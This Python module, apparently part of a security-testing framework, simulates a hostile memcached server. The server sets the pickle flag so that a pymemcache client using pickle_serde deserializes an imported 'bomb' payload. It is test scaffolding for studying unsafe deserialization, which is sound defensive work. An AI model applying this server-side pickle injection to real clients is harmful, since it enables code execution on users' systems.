"""D3 on pymemcache: the server sets the flags that make the client unpickle a value."""

from typing import Any

from backwatch.attack.authority import Authority
from backwatch.attack.protocols.memcached import Memcached
from backwatch.attack.protocols.pickles import bomb
from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.pickle import ReadsPickles

FLAG_PICKLE = b"1"


class _Turning(Memcached):
    def value(self, key: bytes, stored: tuple[bytes, bytes] | None) -> tuple[bytes, bytes] | None:
        return (FLAG_PICKLE, bomb()) if self.hostile else super().value(key, stored)


class MemcachedPickle(ReadsPickles):
    """The app stores only text, with a serde that accepts more."""

    reference = "https://github.com/pinterest/pymemcache/blob/master/pymemcache/serde.py; ATT&CK T1059.006"
    driver = "pymemcache"
    option = "serde=pickle_serde"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """Return a server that sets its own flags."""
        return _Turning(authority)

    def work(self) -> None:
        """Store a basket, and read it."""
        self.meet()

    def meet(self) -> object:
        """Repeat the work once the server is hostile."""
        import ssl
        from contextlib import closing

        from pymemcache.client.base import Client
        from pymemcache.serde import pickle_serde

        context = ssl.create_default_context(cafile=self.config.ca_file)
        client: Any = Client(
            ("localhost", self.config.port), serde=pickle_serde, tls_context=context, connect_timeout=5, timeout=5
        )
        with closing(client):
            client.set("basket:7", "two apples", expire=60)
            return client.get("basket:7")
